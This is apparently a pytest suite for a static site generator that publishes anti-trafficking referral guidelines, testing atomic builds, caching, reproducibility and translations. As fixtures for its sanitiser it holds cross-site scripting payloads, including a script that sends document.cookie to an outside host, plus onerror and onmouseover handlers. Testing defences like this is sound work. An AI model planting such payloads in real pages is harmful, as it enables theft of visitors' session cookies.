"""`trmgen build`: a failed build leaves the previous site whole; content stays literal text."""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from trmgen.content.edition import validated
from trmgen.i18n import catalogs
from trmgen.print import documents as printed_html
from trmgen.publish import documents
from trmgen.sources.layout import Layout

from .edits import add_language, append_to, replace_in, verified
from .html import page

pytestmark = pytest.mark.slow  # every test here builds a site or serves one

def trmgen(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "trmgen", *args, "--root", str(root)],
                          capture_output=True, text=True, timeout=300, check=False)


def snapshot(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def test_build_writes_every_language_and_the_chooser(scratch_repo: Path) -> None:
    result = trmgen(scratch_repo, "build")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "built the site in site/" in result.stdout
    assert (scratch_repo / "site/index.html").is_file()
    assert page(scratch_repo / "site", "en/measures/first-screening/").xpath("//h1")
    assert not list(scratch_repo.glob(".trmgen-build-*")), "the temporary folder is removed"


def test_invalid_yaml_leaves_the_previous_site(scratch_repo: Path) -> None:
    assert trmgen(scratch_repo, "build").returncode == 0
    before = snapshot(scratch_repo / "site")
    sop = scratch_repo / "guidelines/sops/1-identification.yaml"
    replace_in(sop, "who: [police]", "who: [polise]")
    result = trmgen(scratch_repo, "build")
    assert result.returncode == 1
    assert ("guidelines/sops/1-identification.yaml:11:11: error: measures[0].who[0]: unknown "
            "actor 'polise'") in result.stdout
    assert "site/ is unchanged" in result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert snapshot(scratch_repo / "site") == before


def test_broken_template_leaves_the_previous_site(scratch_repo: Path) -> None:
    assert trmgen(scratch_repo, "build").returncode == 0
    before = snapshot(scratch_repo / "site")
    template = scratch_repo / "templates/pages/measure.md.j2"
    lines = template.read_text().splitlines()
    lines[5] += " {{ measure.no_such_field }}"
    template.write_text("\n".join(lines) + "\n")
    result = trmgen(scratch_repo, "build")
    assert result.returncode == 1
    assert "templates/pages/measure.md.j2:6:1: error:" in result.stdout
    assert "no_such_field" in result.stdout
    assert "Traceback" not in result.stdout + result.stderr
    assert snapshot(scratch_repo / "site") == before


def test_template_syntax_error_is_located(scratch_repo: Path) -> None:
    template = scratch_repo / "templates/pages/sop.md.j2"
    template.write_text(template.read_text() + "{% if %}\n")
    result = trmgen(scratch_repo, "build")
    assert result.returncode == 1
    assert "templates/pages/sop.md.j2:" in result.stdout
    assert not (scratch_repo / "site").exists()


def test_strict_build_refuses_sample_data(scratch_repo: Path) -> None:
    result = trmgen(scratch_repo, "build", "--strict")
    assert result.returncode == 1
    assert "contacts/BG.yaml:3:1: error: sample_data" in result.stdout
    assert not (scratch_repo / "site").exists()


def test_strict_build_refuses_the_placeholder_repository(scratch_repo: Path) -> None:
    settings = scratch_repo / "mkdocs.yml"
    result = trmgen(scratch_repo, "build", "--strict")
    line = settings.read_text().splitlines().index(
        "      repository: https://github.com/example/trm-guidelines") + 1
    assert (f"mkdocs.yml:{line}:1: error: plugins.trmgen.repository: 'https://github.com/"
            "example/trm-guidelines' is the placeholder") in result.stdout
    assert "[build.placeholder-repository]" in result.stdout
    assert not (scratch_repo / "site").exists()
    replace_in(settings, "https://github.com/example/trm-guidelines",
               "https://github.com/national-coordinator/trm-guidelines")
    result = trmgen(scratch_repo, "build", "--strict")
    assert "placeholder" not in result.stdout and "sample_data" in result.stdout
    assert trmgen(scratch_repo, "build").returncode == 0
    assert "https://github.com/national-coordinator/trm-guidelines/edit/" in (
        scratch_repo / "site/en/measures/first-screening/index.html").read_text()


def test_a_script_hidden_in_the_offline_copy_alone_is_found(scratch_repo: Path) -> None:
    """A theme template that writes an event attribute only into the offline copy (which is
    zipped, not served) stops the build as one in the site would, named at its source."""
    assert trmgen(scratch_repo, "build").returncode == 0
    before = snapshot(scratch_repo / "site")
    logo = scratch_repo / "templates/overrides/partials/logo.html"
    append_to(logo, '{% if not config.use_directory_urls %}<b onmouseover="steal()"></b>'
              '{% endif %}\n')
    line = logo.read_text().count("\n")
    result = trmgen(scratch_repo, "build")
    assert result.returncode == 1, result.stdout + result.stderr
    found = [row for row in result.stdout.splitlines() if "[build.unsafe-html]" in row]
    assert found, result.stdout
    assert all(row.startswith(f"templates/overrides/partials/logo.html:{line}:") for row in found)
    assert all("of the offline copy; the site is not published with it" in row for row in found)
    assert {row.split("in the built ")[1].split("/")[0] for row in found} == {"en"}
    assert "Traceback" not in result.stdout + result.stderr
    assert snapshot(scratch_repo / "site") == before


def test_a_script_in_the_page_that_opens_a_one_language_copy_is_found(
        partial_site: Path, tmp_path: Path) -> None:
    """The page that opens an offline copy of one language is made for the zip alone: it is
    checked too (the two-language tree, whose site opens on a chooser)."""
    root = tmp_path / "repo"
    shutil.copytree(partial_site.parent, root, ignore=shutil.ignore_patterns("site"))
    replace_in(root / "templates/index.html.j2", "<title>{{ name }}</title>",
               '<title>{{ name }}</title><script src="https://cdn.example.org/x.js"></script>')
    result = trmgen(root, "build")
    assert result.returncode == 1, result.stdout + result.stderr
    found = [row for row in result.stdout.splitlines() if "[build.unsafe-html]" in row]
    assert sorted(row.split(" in the built ")[1].split(";")[0] for row in found) == [
        f"trm-guidelines-{lang}/index.html of the offline copy" for lang in ("ar", "en")]
    assert all(row.startswith("templates/index.html.j2:") for row in found)
    assert not (root / "site").exists()


def test_adversarial_content_is_refused_before_any_page_is_built(scratch_repo: Path) -> None:
    sop = scratch_repo / "guidelines/sops/1-identification.yaml"
    text = sop.read_text()
    text = text.replace("what: Look for signs of trafficking.",
                        "what: 'Look <img src=x onerror=alert(1)> here'")
    text = text.replace("when: At the first contact.",
                        "when: 'See [this](javascript:alert(document.cookie))'")
    text = text.replace("- Talk to the person alone.",
                        "- '<script>fetch(\"https://example.org/\"+document.cookie)</script>'")
    sop.write_text(text)
    result = trmgen(scratch_repo, "build")
    assert result.returncode == 1
    codes = [line.rsplit("[", 1)[1] for line in result.stdout.splitlines()
             if " error: " in line]
    assert sorted(codes) == ["text.raw-html]", "text.raw-html]", "text.unsafe-link]"]
    assert not (scratch_repo / "site").exists()


def test_template_syntax_in_content_is_shown_literally(scratch_repo: Path) -> None:
    sop = scratch_repo / "guidelines/sops/1-identification.yaml"
    replace_in(sop, "what: Look for signs of trafficking.",
               "what: \"Look for {{ 7*7 }} and {% include 'x' %} and {{ config }}.\"")
    result = trmgen(scratch_repo, "build")
    assert result.returncode == 0, result.stdout + result.stderr
    tree = page(scratch_repo / "site", "en/measures/first-screening/")
    what = tree.xpath("string(//h2[@id='what']/following-sibling::p[1])")
    assert what == "Look for {{ 7*7 }} and {% include 'x' %} and {{ config }}."


def test_stale_contact_shows_a_badge(scratch_repo: Path) -> None:
    contacts = verified(scratch_repo)
    first = "    last_verified: 2026-10-01\n    verified_by: Focal point\n  - id: bg-ngo"
    replace_in(contacts, first, first.replace("2026-10-01", "2020-01-01"))
    result = trmgen(scratch_repo, "build")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "[contact.stale]" in result.stdout
    tree = page(scratch_repo / "site", "en/contacts/bg/")
    badges = tree.xpath("//h3[@id='bg-police']/following-sibling::div[1]"
                        "//span[contains(@class, 'trm-badge-stale')]/text()")
    assert badges == ["Due for verification"]
    # verified contacts: the numbers can be called, and the check is named
    assert tree.xpath("//div[@class='trm-institution']//a[starts-with(@href, 'tel:')]/@href") \
        == ["tel:+359-2-123-456", "tel:+359-2-123-457"]
    assert "Last verified on" in tree.xpath("string(//p[@class='trm-verified'])")
    assert not tree.xpath("//h3[@id='bg-ngo']/following-sibling::div[1]"
                          "//span[contains(@class, 'trm-badge-stale')]")


def test_a_build_killed_midway_leaves_the_previous_site(scratch_repo: Path) -> None:
    import os
    import signal
    import time

    assert trmgen(scratch_repo, "build").returncode == 0
    before = snapshot(scratch_repo / "site")
    sop = scratch_repo / "guidelines/sops/1-identification.yaml"
    replace_in(sop, "title: Screen on indicators", "title: Screen everyone on indicators")
    process = subprocess.Popen([sys.executable, "-m", "trmgen", "build", "--root",
                                str(scratch_repo)], stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL, start_new_session=True)
    deadline = time.monotonic() + 60
    while not list(scratch_repo.glob(".trmgen-build-*/site/downloads/*")):
        assert time.monotonic() < deadline, "the build never started writing"
        time.sleep(0.05)
    os.killpg(process.pid, signal.SIGKILL)  # the driver and its workers, mid-build
    process.wait(timeout=30)
    assert snapshot(scratch_repo / "site") == before
    result = trmgen(scratch_repo, "build")  # and the next build goes through
    assert result.returncode == 0, result.stdout + result.stderr
    assert page(scratch_repo / "site", "en/measures/first-screening/").xpath(
        "normalize-space(//h1/text())") == "Screen everyone on indicators"
    assert not list(scratch_repo.glob(".trmgen-build-*")), "the killed build's folder is gone"


def test_two_builds_of_the_same_sources_are_identical(scratch_repo: Path, tmp_path: Path) -> None:
    """Byte for byte, charts and PDFs made afresh each time (no shared cache). The one input
    that is not in the sources is the build date, printed on the PDFs and the downloads
    list; SOURCE_DATE_EPOCH pins it, as for any reproducible build."""
    import os
    import shutil

    twin = tmp_path / "twin"
    shutil.copytree(scratch_repo, twin)
    for root in (scratch_repo, twin):
        env = {**os.environ, "SOURCE_DATE_EPOCH": "1795000000",
               "TRMGEN_CACHE": str(root.parent / f"cache-of-{root.name}")}
        result = subprocess.run([sys.executable, "-m", "trmgen", "build", "--root", str(root)],
                                capture_output=True, text=True, timeout=600, env=env,
                                check=False)
        assert result.returncode == 0, result.stdout + result.stderr
        assert (root.parent / f"cache-of-{root.name}" / "charts").is_dir()
    assert snapshot(scratch_repo / "site") == snapshot(twin / "site")


def test_a_build_of_unchanged_sources_keeps_what_it_made(scratch_repo: Path,
                                                        tmp_path: Path) -> None:
    """The pages and documents of unchanged sources are kept from the last build, and come
    out the same; after an edit, the site, the offline copies and the documents show it."""
    import os
    import re
    import zipfile

    cache = tmp_path / "cache"
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1795000000", "TRMGEN_CACHE": str(cache)}

    def build() -> str:
        result = subprocess.run([sys.executable, "-m", "trmgen", "build", "--root",
                                 str(scratch_repo)], capture_output=True, text=True,
                                timeout=600, env=env, check=False)
        assert result.returncode == 0, result.stdout + result.stderr
        assert re.search(r"^trmgen's own work +\d+\.\d s of \d+\.\d s processor time "
                         r"\(\d+%\)$", result.stdout, re.MULTILINE), result.stdout
        return result.stdout

    build()
    site = scratch_repo / "site"
    before = snapshot(site)
    kept = {kind.name: len(list(kind.iterdir())) for kind in cache.iterdir()}
    # The pages of each template rendered once, filled in for the site and the offline copy;
    # the downloads.
    assert kept["rendered"] > 1 and kept["pages"] == 2 and kept["documents"] == 1
    build()
    assert snapshot(site) == before
    sop = scratch_repo / "guidelines/sops/1-identification.yaml"
    replace_in(sop, "title: Screen on indicators", "title: Screen with care")
    build()
    after = snapshot(site)
    assert page(site, "en/measures/first-screening/").xpath(
        "normalize-space(//h1/text())") == "Screen with care"
    with zipfile.ZipFile(site / "downloads/trm-guidelines-en-offline.zip") as copy:
        name = next(n for n in copy.namelist() if n.endswith("measures/first-screening.html"))
        assert "Screen with care" in copy.read(name).decode()
    assert "Screen with care" in (site / "downloads/trm-guidelines-en.json").read_text()
    assert after["downloads/trm-guidelines-en.pdf"] != before["downloads/trm-guidelines-en.pdf"]


def _build(root: Path, cache: Path) -> subprocess.CompletedProcess[str]:
    """`trmgen build` with its own cache and a fixed build date."""
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1795000000", "TRMGEN_CACHE": str(cache)}
    return subprocess.run([sys.executable, "-m", "trmgen", "build", "--root", str(root)],
                          capture_output=True, text=True, timeout=600, env=env, check=False)


def test_a_build_renders_again_only_the_pages_an_edit_changes(scratch_repo: Path,
                                                             tmp_path: Path) -> None:
    """The pages are kept from one build to the next (web.kept): after an edit of a
    measure's title and text and of an actor's name, only the pages that show them are
    rendered, and the site is the same, byte for byte, as a build of the same sources from
    nothing. The other actors' pages do not name the actor, but their navigation does."""
    cache = tmp_path / "cache"
    result = _build(scratch_repo, cache)
    assert result.returncode == 0, result.stdout + result.stderr
    first = set((cache / "kept").iterdir())
    assert len(first) > 40  # the pages of the site and of the offline copy
    sop = scratch_repo / "guidelines/sops/1-identification.yaml"
    replace_in(sop, "title: Screen on indicators", "title: Screen with care")
    replace_in(sop, "what: A guardian is appointed.",
               "what: A guardian is appointed. Edited for the test.")
    replace_in(scratch_repo / "guidelines/actors.yaml", "name: National coordinator",
               "name: National anti-trafficking coordinator")
    result = _build(scratch_repo, cache)
    assert result.returncode == 0, result.stdout + result.stderr
    made = set((cache / "kept").iterdir()) - first
    assert 0 < len(made) <= len(first) - 20, (len(made), len(first))  # 10 a copy kept
    assert "Edited for the test." in (
        scratch_repo / "site/en/measures/guardian-appointment/index.html").read_text(
            encoding="utf-8")
    twin = tmp_path / "twin"
    shutil.copytree(scratch_repo, twin, ignore=shutil.ignore_patterns("site"))
    result = _build(twin, tmp_path / "empty-cache")
    assert result.returncode == 0, result.stdout + result.stderr
    assert snapshot(scratch_repo / "site") == snapshot(twin / "site")


def _translated_whole(root: Path, language: str) -> None:
    """Publish the small tree in a second language, every text translated (as the English
    itself, which is enough for the counts)."""
    add_language(root, language)
    layout = Layout(root)
    translated = catalogs.read(layout, language)
    for message in translated:
        if isinstance(message.id, tuple):  # the plural for every form but the first
            message.string = (message.id[0],) + (message.id[1],) * (translated.num_plurals - 1)
        elif message.id:
            message.string = message.id
        message.flags.discard("fuzzy")
    catalogs.write(catalogs.catalog_path(layout, language), translated)


def test_the_first_edit_after_a_complete_translation_keeps_the_pages_it_does_not_change(
        scratch_repo: Path, tmp_path: Path) -> None:
    """An edit of an English text makes a complete translation partial: every page of the
    site then says so (the switcher's name, the note on that language's pages, web.status),
    but only the pages that show the text are rendered again. The site is the same, byte for
    byte, as a build of the same sources from nothing."""
    _translated_whole(scratch_repo, "fr")
    cache = tmp_path / "cache"
    result = _build(scratch_repo, cache)
    assert result.returncode == 0, result.stdout + result.stderr
    site = scratch_repo / "site"
    assert not page(site, "fr/actors/police/").xpath("//p[@class='trm-partial']")
    switcher = "//a[@hreflang='fr' and contains(@class, 'md-select__link')]"
    assert [" ".join(a.text_content().split())
            for a in page(site, "en/actors/police/").xpath(switcher)] == ["français"]
    first = set((cache / "kept").iterdir())
    assert len(first) > 80  # two languages, the site and the offline copy
    replace_in(scratch_repo / "guidelines/sops/1-identification.yaml",
               "what: A guardian is appointed.", "what: A guardian is appointed at once.")
    result = _build(scratch_repo, cache)
    assert result.returncode == 0, result.stdout + result.stderr
    made = set((cache / "kept").iterdir()) - first
    assert 0 < len(made) <= len(first) // 2, (len(made), len(first))
    for language in ("en", "fr"):  # a page the edit does not change, kept
        shown = page(site, f"{language}/actors/police/")
        assert [" ".join(a.text_content().split()) for a in shown.xpath(switcher)] == [
            "français (partial: 99%)"]  # the catalog's "translation" is the English
    note = page(site, "fr/actors/police/").xpath("//aside/div/p[@class='trm-partial']")
    assert len(note) == 1 and "99%" in note[0].text_content()
    assert not page(site, "en/actors/police/").xpath("//p[@class='trm-partial']")
    twin = tmp_path / "twin"
    shutil.copytree(scratch_repo, twin, ignore=shutil.ignore_patterns("site"))
    result = _build(twin, tmp_path / "empty-cache")
    assert result.returncode == 0, result.stdout + result.stderr
    assert snapshot(site) == snapshot(twin / "site")


def test_a_page_that_the_site_check_refused_is_checked_again(scratch_repo: Path,
                                                             tmp_path: Path) -> None:
    """A page is kept only once the site check passed it: the next build of the same
    sources checks it again, and refuses it again."""
    measure = scratch_repo / "templates/pages/measure.md.j2"
    append_to(measure, '<b onmouseover="steal()"></b>\n')
    for _ in range(2):
        result = _build(scratch_repo, tmp_path / "cache")
        assert result.returncode == 1, result.stdout + result.stderr
        assert "templates/pages/measure.md.j2:" in result.stdout
        assert "[build.unsafe-html]" in result.stdout
        assert not (scratch_repo / "site").exists()


def test_the_links_of_kept_pages_are_checked_as_in_a_build_that_renders_them(
        scratch_repo: Path, tmp_path: Path) -> None:
    """mkdocs checks every link to an anchor once the pages are made: a kept page is
    checked with the anchors it holds and those it links to, both ways."""
    cache, home = tmp_path / "cache", scratch_repo / "templates/pages/home.md.j2"
    measure = scratch_repo / "templates/pages/measure.md.j2"
    append_to(home, '<span id="kept-anchor"></span>\n')
    append_to(measure, "[↑](../index.md#kept-anchor)\n")
    result = _build(scratch_repo, cache)
    assert result.returncode == 0, result.stdout + result.stderr
    replace_in(home, '<span id="kept-anchor"></span>\n', "")  # the measures' pages are kept
    result = _build(scratch_repo, cache)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "'../index.md#kept-anchor'" in result.stdout and "'index.md' does not contain" in (
        result.stdout)
    append_to(home, '<span id="kept-anchor"></span>\n')  # the home page is kept
    replace_in(measure, "#kept-anchor)", "#no-such-anchor)")
    result = _build(scratch_repo, cache)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "'../index.md#no-such-anchor'" in result.stdout


def test_an_edit_of_a_page_template_the_print_does_not_use_keeps_the_documents(
        scratch_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The downloads are kept by the hash of what they are made from: the page templates
    the print templates import count, the others do not."""
    monkeypatch.setenv("TRMGEN_CACHE", str(tmp_path / "cache"))
    layout, day = Layout(scratch_repo), dt.date(2026, 12, 1)
    files, laying = documents.made(validated(layout), "en", day)
    assert laying > 0
    measure = scratch_repo / "templates/pages/measure.md.j2"
    append_to(measure, "{## edited ##}\n")
    again, laying = documents.made(validated(layout), "en", day)
    assert laying == 0.0 and again == files  # as kept
    blocks = scratch_repo / "templates/pages/_blocks.j2"  # what the book shows of a measure
    append_to(blocks, "{% macro edited() %}{% endmacro %}\n")
    _, laying = documents.made(validated(layout), "en", day)
    assert laying > 0
    book = scratch_repo / "templates/print/book.html.j2"  # a name Jinja cannot follow
    book.write_text('{% set chosen = "_print.j2" %}{% import chosen as q %}\n'
                    + book.read_text(encoding="utf-8"), encoding="utf-8")
    edition = validated(layout)
    assert printed_html.fingerprint(edition) == edition.fingerprint


def test_a_build_deletes_charts_and_pdfs_that_no_build_has_used_for_days(
        scratch_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The cache keeps what builds use; the charts and PDFs of earlier editions go."""
    import os
    import time

    cache = tmp_path / "cache"
    monkeypatch.setenv("TRMGEN_CACHE", str(cache))
    assert trmgen(scratch_repo, "build").returncode == 0
    charts = sorted((cache / "charts").iterdir())
    assert charts
    long_ago = time.time() - 10 * 86400
    stale = cache / "print" / "of-an-earlier-edition.pdf"
    stale.write_bytes(b"%PDF-1.7")
    recent = cache / "charts" / "drawn-yesterday.svg"
    recent.write_bytes(b"<svg/>")
    for path in [stale, *charts]:
        os.utime(path, (long_ago, long_ago))
    sop = scratch_repo / "guidelines/sops/1-identification.yaml"
    replace_in(sop, "when: At the first contact.", "when: At the very first contact.")
    result = trmgen(scratch_repo, "build")  # the charts are unchanged: it uses them again
    assert result.returncode == 0, result.stdout + result.stderr
    assert not stale.exists()
    assert recent.exists()
    assert all(path.exists() for path in charts)
